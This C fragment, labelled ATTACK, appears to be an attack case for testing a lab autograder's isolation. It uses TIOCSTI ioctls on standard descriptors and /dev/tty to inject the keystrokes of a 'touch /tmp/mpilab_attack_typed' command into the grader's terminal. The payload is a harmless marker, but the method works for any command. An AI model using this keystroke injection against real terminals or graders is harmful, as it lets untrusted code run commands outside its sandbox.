/* types a command into the grader's terminal */
ATTACK
{
    for (const char *at = "touch /tmp/mpilab_attack_typed\n"; *at != '\0'; at++) {
        for (int i = 0; i < 3; i++) {
            ioctl(i, TIOCSTI, at);
        }
        ioctl(open("/dev/tty", O_RDWR), TIOCSTI, at);
    }
}
